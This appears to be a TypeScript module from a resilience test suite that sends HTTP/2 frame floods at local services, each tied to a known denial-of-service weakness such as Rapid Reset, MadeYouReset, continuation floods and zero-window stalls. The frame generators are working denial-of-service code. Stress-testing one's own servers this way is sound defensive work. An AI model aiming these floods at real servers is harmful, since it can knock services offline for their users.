/** Floods of frames of HTTP/2, each a weakness that servers have had. */
import { type Field, scaled } from '../attack.ts';
import type { ServiceName } from '../target/system.ts';
import type { Connection } from '../wire/connections.ts';
import { Flag, Frame, PREFACE, Setting, header, headers, settings, toFrame } from '../wire/http2-frames.ts';

const PATHS: Readonly<Partial<Record<ServiceName, string>>> = {
  'rest-bridge': '/v1/posts?limit=100',
  gateway: '/graphql?query=%7B__typename%7D',
};

/** Opens a session by hand: preface and settings are sent, nothing is awaited. */
export async function openSession(
  { connections, addresses }: Field,
  target: ServiceName,
  { more = [], isUnread = false }: { more?: readonly (readonly [number, number])[]; isUnread?: boolean } = {},
): Promise<Connection> {
  const session = await connections.open(addresses[target], { protocols: ['h2'], isUnread });
  session.socket.write(Buffer.concat([PREFACE, settings(...more)]));
  return session;
}

/** Writes until the socket takes no more; ends early when the server closes. */
export async function flood(session: Connection, count: number, make: (index: number) => Buffer): Promise<number> {
  for (let n = 0; n < count; n++) {
    if (session.isClosed() || !session.socket.writable) return n;
    if (!session.socket.write(make(n))) await session.until(() => session.socket.writableLength < 1_000_000, 200);
  }
  return count;
}

export const request = (target: ServiceName, stream: number, more: readonly (readonly [string, string])[] = []) =>
  headers(
    stream,
    [
      [':method', 'GET'],
      [':scheme', 'https'],
      [':authority', 'localhost'],
      [':path', PATHS[target] ?? '/'],
      ['apollo-require-preflight', '1'],
      ...more,
    ],
    Flag.endHeaders | Flag.endStream,
  );

type Flood = (field: Field, target: ServiceName, session: Connection) => Promise<number>;

/** Each is sent on several sessions at once. */
export const FLOODS: Readonly<
  Record<
    string,
    { readonly clause: string; readonly run: Flood; readonly isUnread?: boolean; readonly more?: readonly (readonly [number, number])[] }
  >
> = {
  'rapid reset': {
    clause: 'CVE-2023-44487: streams that are reset at once are bounded in rate',
    run: (field, target, session) =>
      flood(session, scaled(field, 20_000), (n) =>
        Buffer.concat([request(target, 2 * n + 1), toFrame(Frame.rstStream, { stream: 2 * n + 1, payload: Buffer.from([0, 0, 0, 8]) })]),
      ),
  },
  'resets that the server must send': {
    clause: 'CVE-2025-8671 (MadeYouReset): streams that the client makes fail are bounded in rate',
    run: (field, target, session) =>
      flood(session, scaled(field, 20_000), (n) =>
        Buffer.concat([request(target, 2 * n + 1), toFrame(Frame.windowUpdate, { stream: 2 * n + 1, payload: Buffer.alloc(4) })]),
      ),
  },
  settings: {
    clause: 'CVE-2019-9515: acknowledgements are bounded',
    isUnread: true,
    run: (field, _, session) => flood(session, scaled(field, 100_000), (n) => settings([Setting.initialWindowSize, 1000 + (n % 1000)])),
  },
  pings: {
    clause: 'CVE-2019-9512: acknowledgements are bounded',
    isUnread: true,
    run: (field, _, session) => flood(session, scaled(field, 100_000), () => toFrame(Frame.ping, { payload: Buffer.alloc(8) })),
  },
  continuations: {
    clause: 'CVE-2024-27983: a header block is bounded, over however many frames it comes',
    run: (field, _, session) => {
      session.socket.write(toFrame(Frame.headers, { stream: 1, payload: header(':method', 'GET') }));
      return flood(session, scaled(field, 5000), (n) =>
        toFrame(Frame.continuation, { stream: 1, payload: header(`x-${n}`, 'v'.repeat(1000)) }),
      );
    },
  },
  'empty continuations': {
    clause: 'CVE-2019-9518: empty frames are bounded in number',
    run: (field, _, session) => {
      session.socket.write(toFrame(Frame.headers, { stream: 1, payload: header(':method', 'GET') }));
      return flood(session, scaled(field, 100_000), () => toFrame(Frame.continuation, { stream: 1, payload: Buffer.alloc(0) }));
    },
  },
  'empty data': {
    clause: 'CVE-2019-9518: empty frames are bounded in number',
    run: (field, target, session) => {
      session.socket.write(
        headers(
          1,
          [
            [':method', 'POST'],
            [':scheme', 'https'],
            [':authority', 'localhost'],
            [':path', PATHS[target] ?? '/'],
            ['content-type', 'application/json'],
          ],
          Flag.endHeaders,
        ),
      );
      return flood(session, scaled(field, 100_000), () => toFrame(Frame.data, { stream: 1, payload: Buffer.alloc(0) }));
    },
  },
  priorities: {
    clause: 'CVE-2019-9513: priorities are free of cost',
    run: (field, _, session) =>
      flood(session, scaled(field, 100_000), (n) =>
        toFrame(Frame.priority, { stream: 2 * (n % 1000) + 1, payload: Buffer.from([0, 0, 0, (2 * n) % 200, 16]) }),
      ),
  },
  'unknown frames': {
    clause: 'RFC 9113 §5.5: unknown frames are ignored',
    run: (field, _, session) =>
      flood(session, scaled(field, 50_000), (n) => toFrame(0x20 + (n % 200), { stream: n % 7, payload: Buffer.alloc(100) })),
  },
  'headers of one byte': {
    clause: 'CVE-2019-9516: header lists are bounded in number',
    run: (field, target, session) =>
      flood(session, scaled(field, 300), (n) =>
        headers(
          2 * n + 1,
          [
            [':method', 'GET'],
            [':scheme', 'https'],
            [':authority', 'localhost'],
            [':path', PATHS[target] ?? '/'],
            ...Array.from({ length: 1500 }, (): [string, string] => ['a', '']),
          ],
          Flag.endHeaders | Flag.endStream,
        ),
      ),
  },
  'windows that never open': {
    clause: 'CVE-2019-9511, CVE-2019-9517: what waits for a window is bounded, and cut without progress',
    more: [[Setting.initialWindowSize, 0]],
    run: (field, target, session) => flood(session, scaled(field, 1000), (n) => request(target, 2 * n + 1)),
  },
  'windows of a byte': {
    clause: 'CVE-2019-9511: a window that opens by a byte does not make work without end',
    more: [[Setting.initialWindowSize, 1]],
    run: async (field, target, session) => {
      for (let n = 0; n < 50; n++) session.socket.write(request(target, 2 * n + 1));
      return flood(session, scaled(field, 50_000), (n) =>
        toFrame(Frame.windowUpdate, { stream: 2 * (n % 50) + 1, payload: Buffer.from([0, 0, 0, 1]) }),
      );
    },
  },
  'responses that the client does not read': {
    clause: 'What is written is bounded for the process; connections without write progress are cut',
    isUnread: true,
    more: [[Setting.initialWindowSize, 0x7fffffff]],
    run: async (field, target, session) => {
      session.socket.write(toFrame(Frame.windowUpdate, { payload: Buffer.from([0x7f, 0xff, 0, 0]) }));
      return flood(session, scaled(field, 2000), (n) => request(target, 2 * n + 1));
    },
  },
};
